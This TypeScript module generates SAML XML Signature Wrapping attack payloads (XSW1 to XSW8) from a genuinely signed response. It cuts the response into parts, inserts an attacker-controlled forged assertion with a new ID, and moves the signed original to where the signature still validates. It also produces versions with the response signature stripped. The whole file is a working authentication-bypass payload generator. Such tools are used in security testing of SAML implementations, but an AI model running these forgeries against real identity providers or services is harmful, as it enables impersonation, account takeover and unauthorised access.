/**
 * The eight ways to wrap a signed SAML response around a forged assertion (XSW1 to XSW8, as Somorovsky and others described them in 2012), made
 * from one that was really signed. Each keeps something that the signature still covers, elsewhere in the document.
 */

/** A response with the signatures of response and assertion, cut into its parts. */
interface Parts {
  readonly head: string;
  readonly responseSignature: string;
  readonly between: string;
  readonly assertion: string;
  readonly assertionSignature: string;
}

const signatureForm = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const assertionForm = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

function cut(response: string): Parts {
  const [assertion = ''] = assertionForm.exec(response) ?? [];
  const rest = response.replace(assertion, '');
  const [responseSignature = ''] = signatureForm.exec(rest) ?? [];
  const [head = '', after = ''] = rest.split(responseSignature);
  const [assertionSignature = ''] = signatureForm.exec(assertion) ?? [];
  const between = after.replace('</samlp:Response>', '');
  return { head, responseSignature, between, assertion, assertionSignature };
}

/** `forge` changes the text of the assertion that should be believed. Those of the assertion come with and without the response's signature. */
export function wrappedResponses(
  response: string,
  forge: (assertion: string) => string,
): readonly (readonly [name: string, xml: string])[] {
  const { head, responseSignature, between, assertion, assertionSignature } = cut(response);
  const end = '</samlp:Response>';
  const bare = assertion.replace(assertionSignature, '');
  const evil = forge(bare).replace(/ID="[^"]+"/, 'ID="_evil-assertion"');
  const evilHead = head.replace(/ID="[^"]+"/, 'ID="_evil-response"');
  const openSignature = assertionSignature.replace('</ds:Signature>', '');
  const intoAssertion = (inner: string) => evil.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);
  const original = response.replace(responseSignature, '');

  const ofResponse: [string, string][] = [
    [
      'XSW1',
      `${evilHead}${responseSignature.replace('</ds:Signature>', `${original}</ds:Signature>`)}${between}${evil}${end}`,
    ],
    ['XSW2', `${evilHead}${original}${responseSignature}${between}${evil}${end}`],
  ];
  const ofAssertion: [string, string][] = [
    ['XSW3', `${evil}${assertion}`],
    ['XSW4', evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)],
    ['XSW5', `${intoAssertion(assertionSignature)}${bare}`],
    ['XSW6', intoAssertion(`${openSignature}${bare}</ds:Signature>`)],
    ['XSW7', `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`],
    ['XSW8', intoAssertion(`${openSignature}<ds:Object>${bare}</ds:Object></ds:Signature>`)],
  ];
  return [
    ...ofResponse,
    ...ofAssertion.map(
      ([name, inner]) => [name, `${head}${responseSignature}${between}${inner}${end}`] as const,
    ),
    ...ofAssertion.map(
      ([name, inner]) => [`${name}, response unsigned`, `${head}${between}${inner}${end}`] as const,
    ),
  ];
}
